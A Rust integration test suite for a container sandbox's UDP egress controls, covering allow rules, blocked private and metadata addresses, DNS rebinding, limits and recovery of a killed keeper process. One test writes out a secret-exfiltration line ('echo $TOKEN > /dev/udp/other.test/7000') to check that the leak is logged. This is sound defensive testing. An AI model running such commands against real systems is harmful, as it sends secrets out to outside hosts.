//! Datagrams that leave a sandbox, on the stage of what leaves.

use std::{
    fs,
    io::Write,
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use crate::{
    egress::assert_logged,
    support::{Case, Client, Finished, Home, OWN, OWN_SECOND, OWN_V6, Stage, eventually, processes_with},
};

const WALLS: &[&str] = &["container-root", "container-rootless"];

pub const CASES: &[Case] = &[
    Case::new("datagrams::an_allowed_name_is_reached_and_nothing_else", allowed).on(WALLS).staged(),
    Case::new("datagrams::open_reaches_no_private_address_by_whatever_name", private).on(WALLS).staged(),
    Case::new("datagrams::this_machine_is_not_reached_by_its_own_public_addresses", own).on(WALLS).staged(),
    Case::new("datagrams::a_change_of_the_rules_holds_at_once", changed).on(WALLS).staged(),
    Case::new("datagrams::limits_count_them", limited).on(WALLS).staged(),
    Case::new("datagrams::nobody_who_listens_outside_is_told_inside", closed).on(WALLS).staged(),
    Case::new("datagrams::a_keeper_that_was_killed_passes_none_and_comes_back", killed).on(WALLS).staged(),
    Case::new("datagrams::a_flow_that_is_silent_ends", silent).on(&["container-root"]).staged(),
    Case::new("datagrams::to_a_secrets_host_there_are_none", secret).on(&["container-root"]).staged(),
    Case::new("datagrams::they_are_refused_where_they_cannot_be_had", unclaimed).on(&["gvisor-root", "gvisor-rootless"]).staged().brief(),
    Case::new("datagrams::they_are_refused_where_the_kernel_cannot_divert_them", undivertable).on(&["qemu-tcg"]).brief(),
];

/// Sends datagrams of these sizes by one socket, each when the one before has come back and again when it does not, and says what became of it: `echoed`,
/// `refused` by the kernel, `unknown` for a name that does not exist, `lost` for an answer that never comes. With a word in the place of sizes, a line on standard input is waited for
/// before each, and the word is told after each.
const SEND: &str = "
import errno, socket, sys
host, port, *sizes = sys.argv[1:]
try:
    family, kind, protocol, _, address = socket.getaddrinfo(host, int(port), type=socket.SOCK_DGRAM)[0]
    ends = socket.socket(family, kind, protocol)
    ends.settimeout(3)
    ends.connect(address)
    def send(number, size):
        said = bytes([number % 251]) * size
        for again in range(10):
            ends.send(said)
            try:
                # One that was sent again may have come twice.
                while ends.recv(65536) != said:
                    pass
                return
            except TimeoutError:
                pass
        raise TimeoutError
    if sizes == ['line']:
        for number, line in enumerate(sys.stdin):
            send(number, 100)
            print('line', flush=True)
    else:
        for number, size in enumerate(sizes):
            send(number, int(size))
    print('echoed')
except socket.gaierror as error:
    print('unknown' if error.errno == socket.EAI_NONAME else error)
except ConnectionRefusedError:
    print('refused')
except TimeoutError:
    print('lost')
";

fn send(home: &Home, id: &str, host: &str, port: u16, sizes: &[&str]) -> String {
    let port = port.to_string();
    home.ok(&[&["exec", id, "--", "/usr/bin/python3", "-c", SEND, host, &port], sizes].concat())
}

fn assert_sent(home: &Home, id: &str, [host, port]: [&str; 2], outcome: &str) {
    // Where nobody decides, the agent refuses in the end, and the log has nothing of it.
    let refusals = || {
        let port: u64 = port.parse().unwrap();
        let is_one = |record: &serde_json::Value| {
            let is_asked = record["protocol"] == "dns" && record["name"] == host && outcome == "unknown";
            let is_sent = record["protocol"] == "udp" && record["port"] == port && (record["name"] == host || record["address"] == host);
            let is_broken = record["reason"].as_str().is_some_and(|reason| reason.starts_with("broken off: "));
            (is_asked || is_sent) && (record["event"] == "refused" || is_broken)
        };
        records(home, id).iter().filter(|record| is_one(record)).count()
    };
    let before = if outcome == "echoed" { 0 } else { refusals() };
    let sent = send(home, id, host, port.parse().unwrap(), &["100"]);
    assert_eq!(sent, outcome, "{host} {port}\n{}", home.ok(&["net", "log", id]));
    if outcome != "echoed" {
        eventually("it was decided about", || refusals() > before);
    }
}

/// The log.
fn records(home: &Home, id: &str) -> Vec<serde_json::Value> {
    home.ok(&["net", "log", "--json", id]).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// Asks a time server (RFC 5905): what comes back has the time of the question, and a time.
const TIME: &str = "
import socket, struct, sys
ends = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ends.settimeout(20)
# Not connected: the answer is to be from whom was asked.
ends.sendto(bytes([0x23]) + bytes(39) + b'question', (sys.argv[1], 123))
answer, whom = ends.recvfrom(1024)
assert whom[1] == 123 and whom[0] == socket.gethostbyname(sys.argv[1]), whom
assert len(answer) == 48 and answer[0] & 7 == 4 and answer[24:32] == b'question', answer
print(struct.unpack('>I', answer[40:44])[0] - 2208988800)
";

fn allowed(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let rules = "allow=allowed.test:7000/udp,allowed.test:123/udp,v6.test:7000/udp,93.184.215.15:7000/udp,other.test:80/tcp";
    let id = home.create(&["--net", rules]);
    assert_eq!(send(&home, &id, "allowed.test", 7000, &["1", "0", "1200", "9000", "1", "65507"]), "echoed");
    assert_eq!(send(&home, &id, "v6.test", 7000, &["1", "0", "1200", "9000", "1", "65000"]), "echoed");
    assert_eq!(send(&home, &id, "93.184.215.15", 7000, &["1"]), "echoed");
    let time: u64 = home.ok(&["exec", &id, "--", "/usr/bin/python3", "-c", TIME, "allowed.test"]).parse().unwrap();
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    assert!(now.abs_diff(time) < 60, "{time} at {now}");
    for (to, outcome) in [
        // Another port; an address whose name is allowed; a name that is allowed over TCP; one that is not.
        (["allowed.test", "443"], "refused"),
        (["93.184.215.14", "7000"], "refused"),
        (["other.test", "80"], "refused"),
        (["denied.example", "7000"], "unknown"),
        (["2606:4700::1111", "7000"], "refused"),
        (["10.0.0.5", "7000"], "refused"),
    ] {
        assert_sent(&home, &id, to, outcome);
    }
    let connection = home.sandbar(&["exec", &id, "--", "curl", "-sS", "-m", "20", "http://allowed.test:7000/"]);
    assert_ne!(connection.code, 0, "{connection}");
    let read = records(&home, &id);
    let find = |event: &str, port: u16| {
        read.iter().find(|record| record["protocol"] == "udp" && record["event"] == event && record["port"] == port)
    };
    let passed = find("allowed", 123).unwrap();
    assert_eq!((&passed["name"], &passed["address"]), (&"allowed.test".into(), &"93.184.215.14".into()), "{passed}");
    assert_eq!((&passed["rule"], &passed["claimed_process"]), (&"allow=allowed.test:123/udp".into(), &"python3".into()), "{passed}");
    assert_eq!(find("refused", 443).unwrap()["reason"], "no rule allows it");
    for text in ["udp 93.184.215.14 443", "udp 10.", "tcp"] {
        stage.assert_not_seen(text);
    }
    home.close();
}

fn private(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "open"]);
    assert_sent(&home, &id, ["allowed.test", "7000"], "echoed");
    for host in ["private.test", "metadata.test", "loop.test", "10.0.0.5", "169.254.169.254", "203.0.113.1", "fd00:ec2::254"] {
        assert_sent(&home, &id, [host, "7000"], "refused");
    }
    // The second time it means something else; what counts is what it means when it is sent to.
    assert_sent(&home, &id, ["rebind.test", "7000"], "echoed");
    assert_sent(&home, &id, ["rebind.test", "7000"], "refused");
    for address in ["udp 10.", "udp 169.254", "udp 203", "udp 127"] {
        stage.assert_not_seen(address);
    }
    home.ok(&["net", "set", &id, "allow=private.test,10.0.0.0/8"]);
    assert_sent(&home, &id, ["private.test", "7000"], "echoed");
    home.close();
}

fn own(outer: &Home) {
    let stage = Stage::new();
    let _listener = stage.listen_on_host();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "open"]);
    let (one, second, six) = (OWN.to_string(), OWN_SECOND.to_string(), OWN_V6.to_string());
    for host in [&one, &second, &six, "own.test", "second.test"] {
        assert_sent(&home, &id, [host, "7000"], "refused");
    }
    home.ok(&["net", "set", &id, &format!("allow={one},{second},[{six}]:7000,open")]);
    for host in [&one, &second, &six, "own.test", "second.test"] {
        assert_sent(&home, &id, [host, "7000"], "echoed");
    }
    home.close();
}

/// A command that sends a datagram for each line that it is given.
fn speaking(home: &Home, id: &str) -> (Client, std::process::ChildStdin) {
    let words = ["exec", "-i", id, "--", "/usr/bin/python3", "-c", SEND, "allowed.test", "7000", "line"];
    let (mut client, mut input) = Client::start_with_input(home.command(&words), &["exec"]);
    input.write_all(b"go\n").unwrap();
    client.wait_for_line("line");
    (client, input)
}

fn changed(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "deny=*"]);
    assert_sent(&home, &id, ["93.184.215.14", "7000"], "refused");
    home.ok(&["net", "set", &id, "allow=allowed.test"]);
    let (mut open, mut input) = speaking(&home, &id);
    home.ok(&["net", "set", &id, "none"]);
    let seen = stage.all_seen();
    input.write_all(b"go\n").unwrap();
    open.wait_for_line("refused");
    drop(input);
    assert_eq!(open.finish().code, 0);
    assert_eq!(stage.all_seen(), seen);
    let cut = || home.ok(&["net", "log", &id]).contains("cut off: ");
    eventually("it is in the log", cut);
    home.close();
}

fn limited(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "allow=allowed.test,max-bytes=20000"]);
    assert_eq!(send(&home, &id, "allowed.test", 7000, &["4000"]), "echoed");
    assert_eq!(send(&home, &id, "allowed.test", 7000, &["9000"]), "refused");
    assert_logged(&home, &id, "max-bytes=20000  the sandbox's limit of 20000 bytes is reached");
    // The sockets of both are gone, and so are their places.
    let ended = || home.ok(&["net", "log", &id]).lines().filter(|line| line.contains("  ended  ")).count();
    eventually("the first has ended", || ended() == 1);
    home.ok(&["net", "set", &id, "allow=allowed.test,max-connections=1"]);
    let (open, input) = speaking(&home, &id);
    assert_sent(&home, &id, ["allowed.test", "7000"], "refused");
    let log = home.ok(&["net", "log", &id]);
    assert!(log.contains("max-connections=1  1 connections are open"), "{log}");
    drop(input);
    assert_eq!(open.finish().code, 0);
    eventually("the second has ended", || ended() == 2);
    assert_sent(&home, &id, ["allowed.test", "7000"], "echoed");
    home.ok(&["net", "set", &id, "allow=allowed.test,max-rate=100K"]);
    let begun = Instant::now();
    assert_eq!(send(&home, &id, "allowed.test", 7000, &["50000", "50000"]), "echoed");
    // There and back again: two seconds, of which one tenth and the last datagram's time are for nothing.
    assert!(begun.elapsed() > Duration::from_millis(1200), "it took {:?}", begun.elapsed());
    home.close();
}

fn closed(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "open"]);
    assert_sent(&home, &id, ["allowed.test", "7003"], "refused");
    assert_logged(&home, &id, "broken off: Connection refused");
    home.close();
}

fn killed(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "allow=allowed.test"]);
    let (mut open, mut input) = speaking(&home, &id);
    let keepers = || processes_with(&format!("keeper\0--home\0{}\0{id}", home.state().display()));
    let keeper = rustix::process::Pid::from_raw(keepers()[0].cast_signed()).unwrap();
    rustix::process::kill_process(keeper, rustix::process::Signal::KILL).unwrap();
    eventually("there is no keeper", || keepers().is_empty());
    let seen = stage.all_seen();
    input.write_all(b"go\n").unwrap();
    assert_eq!(stage.all_seen(), seen);
    // Whatever command comes next brings another one, which is asked anew about the same socket.
    assert_eq!(home.ids(), [id.as_str()]);
    open.wait_for_line("line");
    drop(input);
    assert_eq!(open.finish().code, 0);
    home.close();
}

fn silent(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = home.create(&["--net", "allow=allowed.test,max-connections=1"]);
    let begun = Instant::now();
    let words = ["exec", "-i", &id, "--", "bash", "-c", "exec 3<>/dev/udp/allowed.test/7002; echo hello >&3; echo sent; read -r line"];
    let (mut open, input) = Client::start_with_input(home.command(&words), &["exec"]);
    open.wait_for_line("sent");
    // Nobody answers there, and its place is taken as long as somebody could.
    let ended = || home.ok(&["net", "log", &id]).lines().find(|line| line.contains("silent")).map(ToOwned::to_owned);
    while ended().is_none() {
        assert!(begun.elapsed() < Duration::from_secs(90), "{}", home.ok(&["net", "log", &id]));
        std::thread::sleep(Duration::from_millis(200));
    }
    assert!(begun.elapsed() > Duration::from_secs(29) && ended().unwrap().contains("6B out, 0B in"), "{:?}", ended());
    assert_sent(&home, &id, ["allowed.test", "7000"], "echoed");
    drop(input);
    open.finish();
    home.close();
}

fn secret(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let id = {
        let args = ["create", "--on", home.wall.provider, "--net", "open", "--secret", "TOKEN=env:MY_TOKEN@allowed.test"];
        let mut command = home.command(&args);
        command.env("MY_TOKEN", "hunter2");
        let made = Client::start(command, &args).finish();
        assert_eq!(made.code, 0, "{made}");
        made.text().trim().to_owned()
    };
    assert_sent(&home, &id, ["allowed.test", "7000"], "refused");
    assert!(home.ok(&["net", "log", &id]).contains("a secret is for this host"), "{}", home.ok(&["net", "log", &id]));
    // To others it goes as it is, and is told.
    let leak = "echo $TOKEN > /dev/udp/other.test/7000";
    home.ok(&["exec", &id, "--", "bash", "-c", leak]);
    eventually("the leak is told", || home.ok(&["net", "log", &id]).contains("the placeholder of TOKEN goes out as it is"));
    home.close();
}

fn unclaimed(outer: &Home) {
    let stage = Stage::new();
    let home = stage.home(&outer.wall);
    let refused = home.sandbar(&home.run_args(&["--net", "allow=allowed.test:123/udp"], &["true"]));
    assert!(refused.code == 125 && refused.stderr.contains("does not have network-udp"), "{refused}");
    assert!(refused.stderr.contains("--on container"), "{refused}");
    let id = home.create(&["--net", "open"]);
    let refused = home.sandbar(&["net", "set", &id, "allow=allowed.test:123/udp"]);
    assert!(refused.code == 125 && refused.stderr.contains("does not have network-udp"), "{refused}");
    assert_eq!(send(&home, &id, "allowed.test", 7000, &["100"]), "refused");
    stage.assert_not_seen("udp");
    home.close();
}

/// A provider that has them, and a kernel that does not.
fn undivertable(home: &Home) {
    home.furnish("");
    let kernel = home.wall.supplies.as_ref().unwrap().kernel().unwrap();
    let modules = home.work().join("modules");
    let copied = std::process::Command::new("cp").arg("-r").arg(kernel.join("modules")).arg(&modules).status().unwrap();
    assert!(copied.success());
    let removed = files_of(&modules, &|name| name.starts_with("nft_tproxy.ko"));
    assert_eq!(removed.len(), 1);
    fs::remove_file(&removed[0]).unwrap();
    let import = ["kernel", "import", &kernel.join("vmlinux").display().to_string(), "--modules", &modules.display().to_string()];
    home.ok(&[&import[..], &["--name", "without"]].concat());
    let rules = "allow=allowed.test:123/udp";
    let assert_refused = |tried: Finished| {
        assert!(tried.code == 125 && tried.stderr.contains("cannot divert them (nft_tproxy)"), "{tried}");
        assert!(tried.stderr.contains("hint: ") && tried.stderr.contains("sandbar kernel import"), "{tried}");
    };
    // It is asked of a machine that was booted, and of one that begins from that one's template.
    assert_refused(home.sandbar(&home.run_args(&["--net", rules], &["true"])));
    let id = home.create(&["--net", "allow=allowed.test"]);
    assert_refused(home.sandbar(&home.run_args(&["--net", rules], &["true"])));
    assert_refused(home.sandbar(&["net", "set", &id, rules]));
    // What is sent all the same is refused at once, of both families.
    for address in ["93.184.215.14", "2606:4700::1111"] {
        let line = format!("exec 3<>/dev/udp/{address}/123; echo x >&3; read -r line <&3");
        let sent = home.sandbar(&["exec", &id, "--", "bash", "-c", &line]);
        assert!(sent.code != 0 && sent.stderr.contains("refused"), "{address}: {sent}");
    }
    home.ok(&["pause", &id]);
    assert_refused(home.sandbar(&["net", "set", &id, rules]));
    home.ok(&["resume", &id]);
    assert_eq!(home.json(&["inspect", "--json", &id])["spec"]["network"], "allow=allowed.test");
    home.ok(&["net", "set", &id, "allow=allowed.test/tcp,deny=*/udp,open"]);
    let checkpoint = home.ok(&["checkpoint", "--with-memory", &id]);
    let fork = home.ok(&["fork", &checkpoint]);
    assert_refused(home.sandbar(&["net", "set", &fork, rules]));
    // While it is stopped nobody can be asked; then it does not begin, and neither does what is forked from it.
    home.ok(&["stop", &id]);
    home.ok(&["net", "set", &id, rules]);
    assert_refused(home.sandbar(&["start", &id]));
    let saved = home.ok(&["checkpoint", &id]);
    assert_refused(home.sandbar(&["fork", &saved]));
    assert_eq!(home.ids().len(), 2);
    home.ok(&["checkpoint", "rm", &saved]);
    home.ok(&["net", "set", &id, "open"]);
    home.ok(&["start", &id]);
    home.ok(&["rm", "-f", &fork]);
    home.ok(&["checkpoint", "rm", &checkpoint]);
}

/// The files below a folder whose names are such.
pub fn files_of(folder: &Path, is_it: &dyn Fn(&str) -> bool) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().flatten();
    let found = entries.flat_map(|entry| match entry.file_type().unwrap().is_dir() {
        true => files_of(&entry.path(), is_it),
        false => Vec::from_iter(is_it(entry.file_name().to_str().unwrap()).then(|| entry.path())),
    });
    found.collect()
}
